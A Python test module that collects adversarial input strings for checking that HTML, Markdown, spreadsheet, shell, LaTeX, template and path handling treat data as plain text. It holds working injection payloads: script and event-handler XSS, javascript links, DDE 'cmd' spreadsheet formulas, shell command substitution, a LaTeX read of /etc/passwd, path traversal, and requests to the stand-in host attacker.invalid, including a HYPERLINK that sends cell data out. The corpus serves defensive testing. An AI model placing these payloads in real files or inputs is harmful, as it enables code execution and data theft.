"""Texts that would do harm where something took them for more than text. Each stands in data, ids, summaries or a config.

What harm shows by: a file named PWNED anywhere below the working directory, the word PWNED as a page's title, a request to
the host attacker.invalid.
"""

from __future__ import annotations

# For a page: tags, attributes, the end of the element that embeds data, addresses that run, styles that fetch.
HTML = (
    "<script>document.title='PWNED'</script>",
    "<img src=x onerror=\"document.title='PWNED'\">",
    "</script><script>document.title='PWNED'</script>",
    "--></style></textarea></title><svg/onload=document.title='PWNED'>",
    '" onmouseover="document.title=\'PWNED\'" x="',
    "' autofocus onfocus='document.title=\"PWNED\"' x='",
    "<a href=\"javascript:document.title='PWNED'\">click</a>",
    "<iframe srcdoc=\"<script>parent.document.title='PWNED'</script>\"></iframe>",
    "<link rel=stylesheet href=http://attacker.invalid/x.css><img src=//attacker.invalid/x.png>",
    '<meta http-equiv=refresh content="0;url=http://attacker.invalid/">',
    "<form action=http://attacker.invalid/><input name=q autofocus>",
    "&lt;script&gt;document.title='PWNED'&lt;/script&gt; &#x3c;b&#x3e;",
)
# For Markdown: cells and rows of a table, links, pictures, code.
MARKDOWN = (
    "a | b | c",
    "| x |\n|---|\n| y |",
    "[click](javascript:document.title='PWNED')",
    "![see](http://attacker.invalid/x.png)",
    "``` \n# heading\n***",
    "<details open ontoggle=\"document.title='PWNED'\">",
)
# For a spreadsheet.
FORMULAS = (
    '=HYPERLINK("http://attacker.invalid/?"&A1,"click")',
    "=cmd|' /C touch PWNED'!A0",
    "+1+cmd|' /C touch PWNED'!A0",
    "-2+3+cmd|' /C touch PWNED'!A0",
    "@SUM(1+1)*cmd|' /C touch PWNED'!A0",
    "\t=1+1",
)
# For a shell.
SHELL = (
    "; touch PWNED",
    "$(touch PWNED)",
    "`touch PWNED`",
    "'; touch PWNED; '",
    '"; touch PWNED; "',
    "it's $(touch PWNED)",
    "&& touch PWNED || touch PWNED &",
    "> PWNED",
    "\ntouch PWNED\n",
    "--help",
)
LATEX = ("\\input{/etc/passwd}", "\\immediate\\write18{touch PWNED}", "100 % & $x_1^2$ #1 ~ {open", "\\end{table}")
# For what fills in placeholders.
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% for x in y %}",
    "{seed}",
    "{wildcards.method}",
    "{0.__class__}",
    "%(name)s %s",
    "${HOME} $HOME",
    "{",
)
PATHS = ("../../../etc/passwd", "/etc/passwd", "..", ".", "~", "a/b", "a\\b", "-rf", "con", "PWNED\n")
# That hide, turn around or end a line. A text with a byte of zero, too.
CHARACTERS = (
    "red \x1b[31m\x1b]0;PWNED\x07 bell",
    "a\x00b",
    "turned \u202e around \u202c and hidden \u200b\u200d\ufeff",
    "lines \u2028 and \u2029 and \x85 and \x0b and \x0c end",
    "\u0000\ufffd\uffff\U0010ffff \U0001f469\u200d\U0001f469\u200d\U0001f467",
    "é e\u0301 ﬀ İ ß " + "a\u0300\u0301\u0302" * 20,
)
TEXTS = (*HTML, *MARKDOWN, *FORMULAS, *SHELL, *LATEX, *TEMPLATES, *PATHS, *CHARACTERS)
